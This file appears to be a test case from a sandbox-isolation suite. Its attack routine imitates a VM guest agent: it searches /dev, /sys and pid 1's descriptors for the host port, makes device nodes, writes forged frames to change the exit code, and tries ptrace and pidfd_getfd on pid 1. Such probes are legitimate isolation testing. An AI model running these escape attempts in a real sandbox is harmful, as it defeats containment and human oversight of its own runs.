"""Speaks for the guest's agent: looks for the port to the host in /dev, /sys and among pid 1's
descriptors, makes its device node, and sends frames that end the run with another exit code and
bring a file of their own.

layer: the guest's agent has the port open and nobody else can: no node, no capability, another user
control: where such a port can be opened, the frames go out
"""
import os
import threading

SLOW = True
CODE = 77


def scene(s):
    s.fifo, s.got = os.path.join(s.ws, "vport0p1"), []
    s.args = {"fifo": s.fifo if s.control else None, "code": CODE}
    if s.control:
        os.mkfifo(s.fifo)

        def listen():
            with open(s.fifo, "rb") as f:
                s.got.append(f.read(100))
        s.reader = threading.Thread(target=listen, daemon=True)
        s.reader.start()


def attack(a):
    import glob
    import stat
    frames = b"".join(struct.pack("<HBBII", 0x5657, kind, 0, channel, 4)
                      + struct.pack("<I", a["code"]) for kind in range(1, 32)
                      for channel in (0, 1, 2))
    paths = [a["fifo"]] if a["fifo"] else glob.glob("/dev/vport*") + glob.glob(
        "/dev/virtio-ports/*") + glob.glob("/dev/hvc*") + glob.glob("/proc/1/fd/*") + [
            "/proc/1/root/dev/vport0p1", "/dev/vsock"]
    for name in [] if a["fifo"] else glob.glob("/sys/class/virtio-ports/*/dev") + glob.glob(
        "/sys/class/block/*/dev") + glob.glob("/sys/class/tty/ttyS0/dev"):
        def node():
            major, minor = map(int, slurp(name).split(":"))
            path = f"/tmp/node{major}.{minor}"
            os.mknod(path, 0o666 | (stat.S_IFBLK if "block" in name else stat.S_IFCHR),
                     os.makedev(major, minor))
            paths.append(path)
        attempt(node)
    for path in paths:
        def speak():
            fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
            if not stat.S_ISCHR(os.fstat(fd).st_mode) or os.fstat(fd).st_rdev != os.makedev(1, 3):
                print("SPOKEN", path, os.write(fd, frames))
        attempt(speak)
    for call, words in (("ptrace", (16, 1, 0, 0)), ("pidfd_open", (1, 0))):
        print(call, attempt(syscall, call, *words))
    attempt(lambda: syscall("pidfd_getfd", syscall("pidfd_open", 1, 0), 3, 0))


def escaped(s, r):
    if s.control:
        s.reader.join(5)
        return bool(s.got and s.got[0])
    return r.rc == CODE or "SPOKEN" in r.out or r.rc == 125
